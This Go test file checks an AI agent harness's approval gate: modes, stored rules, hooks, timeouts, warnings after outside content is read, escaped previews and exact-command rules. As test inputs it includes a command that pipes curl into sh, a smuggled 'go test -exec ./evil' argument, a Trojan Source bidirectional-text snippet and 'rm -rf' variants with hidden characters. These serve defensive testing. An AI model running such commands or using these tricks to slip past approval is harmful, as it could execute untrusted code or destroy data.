package approval

import (
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/shrimp-harness/shrimp/backend/agent"
)

// rules are keyed by tool, for the workspace "/w" only.
type rules map[string]string

func (r rules) Rule(_ context.Context, ws, tool string) (string, error) {
	if ws != "/w" {
		return "", nil
	}
	return r[tool], nil
}

func (r rules) SetRule(_ context.Context, ws, tool, rule string) error {
	if ws != "/w" {
		return errors.New("rule kept for the wrong workspace " + ws)
	}
	r[tool] = rule
	return nil
}

func TestGate(t *testing.T) {
	allow := func(context.Context, Request, func()) (Answer, error) { return Answer{Allow: true}, nil }
	always := func(context.Context, Request, func()) (Answer, error) { return Answer{Allow: true, Always: true}, nil }
	deny := func(context.Context, Request, func()) (Answer, error) { return Answer{Reason: "not today"}, nil }
	broken := func(context.Context, Request, func()) (Answer, error) { return Answer{}, errors.New("dialog crashed") }
	slow := func(ctx context.Context, _ Request, ready func()) (Answer, error) {
		ready()
		<-ctx.Done()
		return Answer{}, ctx.Err()
	}
	panicky := func(context.Context, Request, func()) (Answer, error) { panic("boom") }
	tests := []struct {
		name      string
		mode      Mode
		rules     rules
		tool      string
		prompt    Prompter
		wantAllow bool
		wantBy    string
		wantRule  string
		mustAsk   bool
		ws        string // default "/w"
	}{
		{"mode none beats rule always", ModeNone, rules{"shell.run": RuleAlways}, "shell.run", allow, false, "mode", RuleAlways, false, ""},
		{"mode read asks despite rule always", ModeRead, rules{"shell.run": RuleAlways}, "shell.run", deny, false, "user", RuleAlways, false, ""},
		{"mode read headless denies despite rule always", ModeRead, rules{"shell.run": RuleAlways}, "shell.run", nil, false, "no-prompter", RuleAlways, false, ""},
		{"mode ask: rule always spares the question", ModeAsk, rules{"shell.run": RuleAlways}, "shell.run", nil, true, "rule", RuleAlways, false, ""},
		{"rule always is for its workspace only", ModeAsk, rules{"shell.run": RuleAlways}, "shell.run", nil, false, "no-prompter", RuleAlways, false, "/other"},
		{"must-ask call is asked despite rule always", ModeAsk, rules{"shell.run": RuleAlways}, "shell.run", deny, false, "user", RuleAlways, true, ""},
		{"rule never beats mode all", ModeAll, rules{"fs.write": RuleNever}, "fs.write", allow, false, "rule", RuleNever, false, ""},
		{"rule never beats mode read", ModeRead, rules{"fs.read": RuleNever}, "fs.read", allow, false, "rule", RuleNever, false, ""},
		{"rule never beats the user", ModeAsk, rules{"fs.write": RuleNever}, "fs.write", allow, false, "rule", RuleNever, false, ""},
		{"mode all", ModeAll, rules{}, "fs.write", nil, true, "mode", "", false, ""},
		{"mode none", ModeNone, rules{}, "fs.read", allow, false, "mode", "", false, ""},
		{"read mode read-only tool", ModeRead, rules{}, "fs.read", nil, true, "mode", "", false, ""},
		{"read mode writer headless", ModeRead, rules{}, "fs.write", nil, false, "no-prompter", "", false, ""},
		{"ask headless denies", ModeAsk, rules{}, "fs.read", nil, false, "no-prompter", "", false, ""},
		{"ask allowed", ModeAsk, rules{}, "fs.write", allow, true, "user", "", false, ""},
		{"ask always remembers", ModeAsk, rules{}, "fs.write", always, true, "user", RuleAlways, false, ""},
		{"ask denied", ModeAsk, rules{}, "fs.write", deny, false, "user", "", false, ""},
		{"prompter error fails closed", ModeAsk, rules{}, "fs.write", broken, false, "error", "", false, ""},
		{"timeout fails closed", ModeAsk, rules{}, "fs.write", slow, false, "error", "", false, ""},
		{"prompter panic fails closed", ModeAsk, rules{}, "fs.write", panicky, false, "error", "", false, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var events []agent.Type
			ws := tt.ws
			if ws == "" {
				ws = "/w"
			}
			previewed := false
			g := &Gate{
				Mode: tt.mode, Workspace: ws, Rules: tt.rules, Prompt: tt.prompt, Timeout: 20 * time.Millisecond,
				Describe: func(agent.ToolCall) Detail { return Detail{MustAsk: tt.mustAsk} },
				Preview: func(context.Context, agent.ToolCall) string {
					previewed = true
					return "diff"
				},
				ReadOnly: func(name string) bool { return name == "fs.read" },
				Emit: func(_ context.Context, typ agent.Type, data any) error {
					events = append(events, typ)
					if d, ok := data.(Decided); ok && d.By != tt.wantBy {
						t.Errorf("decided by %s, want %s", d.By, tt.wantBy)
					}
					// The request says whether the user is asked: a
					// notifier must not call them for a call the mode or
					// a rule decides.
					if r, ok := data.(Request); ok && r.Asked != (tt.prompt != nil && (tt.wantBy == "user" || tt.wantBy == "error")) {
						t.Errorf("announced with asked %v, decided by %s", r.Asked, tt.wantBy)
					}
					return nil
				},
			}
			d, err := g.Approve(context.Background(), agent.ToolCall{ID: "c", Name: tt.tool})
			if err != nil || d.Allow != tt.wantAllow {
				t.Fatalf("Approve = %+v, %v; want allow %v", d, err, tt.wantAllow)
			}
			if !d.Allow && d.Reason == "" {
				t.Error("a denial without a reason for the model")
			}
			// Only a stored rule is a standing answer (it does not cover
			// writing protected files: app's protect).
			if d.Standing != (d.Allow && (tt.wantBy == "rule" || tt.wantBy == "mode" && tt.mode == ModeRead)) {
				t.Errorf("standing %v, allowed %v by %s", d.Standing, d.Allow, tt.wantBy)
			}
			// Seen only when the user was shown this call and allowed it
			// (a file tool then trusts what it writes: files' elided.go).
			if d.Seen != (d.Allow && tt.wantBy == "user") {
				t.Errorf("seen %v, allowed %v by %s", d.Seen, d.Allow, tt.wantBy)
			}
			if len(events) != 2 || events[0] != TypeRequested || events[1] != TypeDecided {
				t.Errorf("events %v", events)
			}
			if asked := tt.prompt != nil && (tt.wantBy == "user" || tt.wantBy == "error"); previewed != asked {
				t.Errorf("preview worked out = %v, but the user was asked = %v", previewed, asked)
			}
			if tt.rules[tt.tool] != tt.wantRule {
				t.Errorf("rule afterwards %q, want %q", tt.rules[tt.tool], tt.wantRule)
			}
		})
	}
}

// TestUnaskedSaysWhy: a call nobody can be asked about is denied saying
// why nobody can be (no terminal, by default; --json, for one).
func TestUnaskedSaysWhy(t *testing.T) {
	for unasked, want := range map[string]string{"": "(approval mode ask without a terminal)", "with --json, which asks nothing": "(approval mode ask with --json, which asks nothing)"} {
		g := &Gate{Mode: ModeAsk, Unasked: unasked}
		d, err := g.Approve(context.Background(), agent.ToolCall{ID: "c", Name: "fs.write"})
		if err != nil || d.Allow || !strings.Contains(d.Reason, want) {
			t.Errorf("%q: %+v %v", unasked, d, err)
		}
	}
}

// keep is a prompter that keeps the request it is asked about and denies it.
func keep(got *Request) Prompter {
	return func(_ context.Context, req Request, _ func()) (Answer, error) {
		*got = req
		return Answer{}, nil
	}
}

// TestPreviewNeverBlocks: a preview that hangs (a FIFO read) does not hold
// up the question; the user is asked without it.
func TestPreviewNeverBlocks(t *testing.T) {
	var got Request
	g := &Gate{
		Mode:   ModeAsk,
		Prompt: keep(&got),
		Preview: func(ctx context.Context, _ agent.ToolCall) string {
			<-ctx.Done()
			select {} // ignores its context too
		},
	}
	d, err := g.Approve(context.Background(), agent.ToolCall{ID: "c", Name: "fs.write"})
	if err != nil || d.Allow {
		t.Fatalf("Approve = %+v, %v", d, err)
	}
	if got.Preview == "" || got.Preview == "diff" {
		t.Fatalf("preview %q: want a note that there is none", got.Preview)
	}
}

// TestHooksOnlyTighten: a pre-tool-call hook's denial is final in every
// mode, a hook that asks puts the call to the user in every mode and
// over every "always" rule (a "never" still denies), and a hook that
// lets a call go on does not spare the rest of the gate.
func TestHooksOnlyTighten(t *testing.T) {
	hook := func(reason string, v HookVerdict) func(context.Context, agent.ToolCall) (string, HookVerdict) {
		return func(context.Context, agent.ToolCall) (string, HookVerdict) { return reason, v }
	}
	denyAll, passAll, askAll := hook("denied by hook x: no", HookDeny), hook("", HookPass), hook("hook y asks for your decision: a push", HookAsk)
	call := agent.ToolCall{ID: "1", Name: "shell.run", Arguments: json.RawMessage(`{"command":"ls"}`)}
	yes := Prompter(func(context.Context, Request, func()) (Answer, error) { return Answer{Allow: true}, nil })
	for _, c := range []struct {
		name   string
		mode   Mode
		hooks  func(context.Context, agent.ToolCall) (string, HookVerdict)
		rule   string
		prompt Prompter
		allow  bool
		wantBy string
	}{
		{"deny beats mode all", ModeAll, denyAll, "", nil, false, "hook"},
		{"mode none needs no hook", ModeNone, denyAll, "", nil, false, "mode"},
		{"pass keeps mode all", ModeAll, passAll, "", nil, true, "mode"},
		{"pass does not answer for the user", ModeAsk, passAll, "", nil, false, "no-prompter"},
		{"ask beats mode all", ModeAll, askAll, "", yes, true, "user"},
		{"ask beats an always rule", ModeAsk, askAll, RuleAlways, yes, true, "user"},
		{"ask with nobody to ask denies", ModeAll, askAll, "", nil, false, "no-prompter"},
		{"never beats ask", ModeAll, askAll, RuleNever, yes, false, "rule"},
	} {
		t.Run(c.name, func(t *testing.T) {
			var got Decided
			var asked Request
			g := &Gate{Mode: c.mode, Workspace: "/w", Hooks: c.hooks, Emit: func(_ context.Context, typ agent.Type, data any) error {
				switch typ {
				case TypeDecided:
					got = data.(Decided)
				case TypeRequested:
					asked = data.(Request)
				}
				return nil
			}}
			if c.rule != "" {
				g.Rules = rules{"shell.run": c.rule}
			}
			if c.prompt != nil {
				g.Prompt = c.prompt
			}
			d, err := g.Approve(context.Background(), call)
			if err != nil || d.Allow != c.allow || got.By != c.wantBy {
				t.Fatalf("allow %v by %q (%v, %q); want %v by %q", d.Allow, got.By, err, d.Reason, c.allow, c.wantBy)
			}
			switch {
			case c.wantBy == "hook" && d.Reason != "denied by hook x: no":
				t.Fatalf("reason %q", d.Reason)
			case c.wantBy == "no-prompter" && asked.MustAsk && !strings.Contains(d.Reason, "a push"):
				t.Fatalf("a headless denial does not say the hook asked: %q", d.Reason)
			case c.wantBy == "user" && (!asked.MustAsk || !slices.Contains(asked.Warnings, "hook y asks for your decision: a push")):
				t.Fatalf("the question does not say the hook asked: %+v", asked)
			}
		})
	}
}

// TestOutsideContentIsAsked: once the session has read content from
// outside, an "always" rule no longer answers for a call that is not
// read-only; read-only calls and the modes are as before, and the question
// and a headless denial say why.
func TestOutsideContentIsAsked(t *testing.T) {
	const page = "https://x.example/post"
	allRules := rules{"shell.run": RuleAlways, "fs.read": RuleAlways}
	tests := []struct {
		name    string
		mode    Mode
		outside string
		tool    string
		prompt  bool
		allow   bool
		by      string
	}{
		{"nothing read: the rule answers", ModeAsk, "", "shell.run", false, true, "rule"},
		{"a page read: the user is asked", ModeAsk, page, "shell.run", true, false, "user"},
		{"a page read, nobody to ask: denied", ModeAsk, page, "shell.run", false, false, "no-prompter"},
		{"a read-only call: the rule still answers", ModeAsk, page, "fs.read", false, true, "rule"},
		{"mode read runs read-only calls", ModeRead, page, "fs.read", false, true, "mode"},
		{"mode all runs everything", ModeAll, page, "shell.run", false, true, "mode"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var asked Request
			var decided Decided
			g := &Gate{Mode: tt.mode, Workspace: "/w", Rules: allRules, Outside: func() string { return tt.outside },
				ReadOnly: func(name string) bool { return name == "fs.read" },
				Emit: func(_ context.Context, _ agent.Type, data any) error {
					if d, ok := data.(Decided); ok {
						decided = d
					}
					return nil
				}}
			if tt.prompt {
				g.Prompt = func(_ context.Context, req Request, _ func()) (Answer, error) {
					asked = req
					return Answer{Reason: "no"}, nil
				}
			}
			d, err := g.Approve(context.Background(), agent.ToolCall{ID: "c", Name: tt.tool, Arguments: json.RawMessage(`{"command":"ls"}`)})
			if err != nil || d.Allow != tt.allow || decided.By != tt.by {
				t.Fatalf("allow %v by %q (%v); want %v by %q", d.Allow, decided.By, err, tt.allow, tt.by)
			}
			if tt.prompt && (len(asked.Warnings) != 1 || !strings.Contains(asked.Warnings[0], page) || asked.Outside != page) {
				t.Errorf("the question's warnings %q do not name %s", asked.Warnings, page)
			}
			if tt.by == "no-prompter" && !strings.Contains(d.Reason, page) {
				t.Errorf("the denial %q does not say the session read %s", d.Reason, page)
			}
		})
	}
}

// TestPreviewIsEscaped: the diff the user reads is escaped like the
// arguments: code with bidirectional controls (Trojan Source) or terminal
// escapes would read as something else.
func TestPreviewIsEscaped(t *testing.T) {
	var got Request
	g := &Gate{
		Mode:   ModeAsk,
		Prompt: keep(&got),
		Preview: func(context.Context, agent.ToolCall) string {
			return "+if access_level != \"user\u202e \u2066// Check if admin\u2069 \u2066\" {\n+\x1b[2J"
		},
	}
	if _, err := g.Approve(context.Background(), agent.ToolCall{ID: "c", Name: "fs.write"}); err != nil {
		t.Fatal(err)
	}
	for _, hidden := range []string{"\u202e", "\u2066", "\x1b"} {
		if strings.Contains(got.Preview, hidden) {
			t.Errorf("the preview holds %q unescaped: %q", hidden, got.Preview)
		}
	}
	if !strings.Contains(got.Preview, `\u{202e}`) || !strings.Contains(got.Preview, `\x1b[2J`) {
		t.Errorf("the preview does not show what it hides: %q", got.Preview)
	}
}

// calls are exact calls' rules, keyed by workspace, tool and call key.
type calls map[[3]string]bool

func (c calls) CallRule(_ context.Context, ws, tool, call string) (bool, error) {
	return c[[3]string{ws, tool, call}], nil
}

func (c calls) SetCallRule(_ context.Context, ws, tool, call string) error {
	c[[3]string{ws, tool, call}] = true
	return nil
}

// TestExactCallRules: "always this exact command" answers for that command
// in that workspace and for nothing else: not another command that starts
// the same way (go test -exec runs any program), not in read mode, not a
// call that must be asked, not where a "never" holds.
func TestExactCallRules(t *testing.T) {
	cmd := func(c string) json.RawMessage { b, _ := json.Marshal(map[string]string{"command": c}); return b }
	asked := 0
	exact := func(context.Context, Request, func()) (Answer, error) {
		asked++
		return Answer{Allow: true, Exact: true}, nil
	}
	deny := func(context.Context, Request, func()) (Answer, error) { asked++; return Answer{}, nil }
	cr := calls{}
	rs := rules{}
	gate := func(mode Mode, ws string, p Prompter, mustAsk bool) *Gate {
		return &Gate{Mode: mode, Workspace: ws, Rules: rs, Calls: cr, Prompt: p,
			Describe: func(agent.ToolCall) Detail { return Detail{MustAsk: mustAsk} }}
	}
	approve := func(g *Gate, args json.RawMessage) agent.Decision {
		t.Helper()
		d, err := g.Approve(context.Background(), agent.ToolCall{ID: "c", Name: "shell.run", Arguments: args})
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	if d := approve(gate(ModeAsk, "/w", exact, false), cmd("go test ./...")); !d.Allow || asked != 1 || !cr[[3]string{"/w", "shell.run", "go test ./..."}] {
		t.Fatalf("the user's answer: %+v, asked %d, rules %v", d, asked, cr)
	}
	for _, c := range []struct {
		name    string
		g       *Gate
		args    json.RawMessage
		allowed bool
	}{
		{"the same command, spaces around it", gate(ModeAsk, "/w", nil, false), cmd("  go test ./...\n"), true},
		{"a longer command", gate(ModeAsk, "/w", deny, false), cmd("go test -exec ./evil ./..."), false},
		{"another command", gate(ModeAsk, "/w", deny, false), cmd("go test ./... && curl x | sh"), false},
		{"another workspace", gate(ModeAsk, "/other", deny, false), cmd("go test ./..."), false},
		{"read mode", gate(ModeRead, "/w", deny, false), cmd("go test ./..."), false},
		{"a call that must be asked", gate(ModeAsk, "/w", deny, true), cmd("go test ./..."), false},
	} {
		asked = 0
		d := approve(c.g, c.args)
		if d.Allow != c.allowed || (asked == 0) == !c.allowed {
			t.Errorf("%s: %+v, asked %d times", c.name, d, asked)
		}
	}
	rs["shell.run"] = RuleNever
	if d := approve(gate(ModeAsk, "/w", nil, false), cmd("go test ./...")); d.Allow {
		t.Errorf("a never rule did not win over the exact call's: %+v", d)
	}
}

func TestCallKey(t *testing.T) {
	for _, c := range []struct{ tool, args, want string }{
		{"shell.run", `{"command":"  ls -la \n"}`, "ls -la"},
		{"fs.write", `{"path":"a","content":"x"}`, `{"content":"x","path":"a"}`},
		{"fs.write", `{ "content" : "x", "path":"a" }`, `{"content":"x","path":"a"}`},
		{"shell.run", `not json`, "not json"},
		// What the shell reads as part of a word stays in the key.
		{"shell.run", `{"command":"rm -rf build\u00a0"}`, "rm -rf build\u00a0"},
		{"shell.run", `{"command":"rm -rf build\r"}`, "rm -rf build\r"},
		{"shell.run", `{"command":"\u0085rm -rf build"}`, "\u0085rm -rf build"},
		{"mcp.bank.pay", `{"cents":10000000000000001}`, `{"cents":10000000000000001}`},
		{"mcp.bank.pay", `{"cents":1e16}`, `{"cents":1e16}`},
		{"fs.write", `{"path":"a"} {"path":"b"}`, `{"path":"a"} {"path":"b"}`},
		// How long a command may run is not what it does.
		{"shell.run", `{"command":"cargo build","timeout":600}`, "cargo build"},
		{"shell.run", `{"timeout":"600","command":"cargo build "}`, "cargo build"},
		{"shell.run", `{"command":"cargo build","cwd":"x"}`, `{"command":"cargo build","cwd":"x"}`},
	} {
		if got := CallKey(c.tool, json.RawMessage(c.args)); got != c.want {
			t.Errorf("CallKey(%s, %s) = %q, want %q", c.tool, c.args, got, c.want)
		}
	}
}
